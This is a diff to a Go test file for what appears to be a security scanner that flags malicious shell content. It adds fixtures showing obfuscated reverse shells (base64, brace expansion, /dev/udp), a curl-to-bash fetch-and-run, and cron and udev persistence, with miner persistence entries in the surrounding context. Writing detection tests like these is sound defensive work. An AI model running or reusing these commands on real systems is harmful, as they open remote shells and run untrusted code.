@@ -108,7 +108,18 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "miner algo", path: "/etc/cron.d/m", text: "@reboot root /usr/bin/.x --url=198.51.100.7:80 --user=w9 -a rx/0 -B\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner, label: audit.CategoryPersistence},
 		{name: "miner options", path: "/etc/systemd/system/m.service", text: "[Service]\nExecStart=/opt/sysd -o 198.51.100.7:3333 -u worker --donate-level=1 --cpu-max-threads-hint=50\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner},
 
+		// Brace expansion spells a command without blanks; process substitution hands a
+		// download to a shell as a file.
+		{name: "brace words decoded", path: "/opt/q.sh", text: "#!/bin/bash\nbash -c '{echo," + b64("nc -e /bin/sh 203.0.113.9 4444") + "}|{base64,-d}|{bash,-i}'\n", want: []string{RuleNetExec, RuleDecodeRun}},
+		{name: "brace words plain", path: "/etc/cron.d/q", text: "* * * * * root {ncat,203.0.113.9,4444,-e,/bin/bash}\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
+		{name: "process substitution", path: "/usr/local/bin/upd", text: "#!/bin/bash\nbash <(curl -fsSL http://198.51.100.7:8080/s.sh)\n", want: []string{RuleFetchRun}},
+		{name: "process substitution decoded", path: "/opt/ps.sh", text: "#!/bin/bash\nsource <(echo " + b64("sh -i >& /dev/udp/203.0.113.9/53 0>&1") + " | base64 -d)\n", want: []string{RuleDevTCP, RuleDecodeRun}},
+
+		// udev values quote a quote with a backslash.
+		{name: "udev escaped quotes", path: "/etc/udev/rules.d/70-usb.rules", text: "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"ncat 203.0.113.9 4444 -e \\\"/bin/bash -c id;/bin/bash\\\" 2>/dev/null\"\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
+
 		// Silent.
+		{name: "braces and substitutions clean", path: "/usr/local/bin/backup", text: "#!/bin/bash\ncp /etc/app.conf{,.bak}\nmkdir -p /srv/{logs,data,tmp}\nfor i in {1..5}; do echo $i; done\ndiff <(sort a.txt) <(sort b.txt)\nwhile read l; do echo $l; done < <(ls /srv)\n"},
 		{name: "curl -o -u", path: "/opt/fetch.sh", text: "#!/bin/sh\ncurl -fsS -o /tmp/out -u deploy:x https://repo.example.org:8443/a.tar\nssh -o StrictHostKeyChecking=no -u x host\nmysql -u root -o -h db:3306\n"},
 		{name: "netcat doc $0", path: "/usr/share/doc/netcat/examples/relay", text: "#!/bin/sh\nnc -l -p 8080 -e \"$0\" < /dev/null\n"},
 		{name: "proxy fifo loop", path: "/opt/proxy.sh", text: "#!/bin/sh\nmkfifo /tmp/back\nnc -l 8080 0</tmp/back | nc localhost 80 1>/tmp/back\n"},
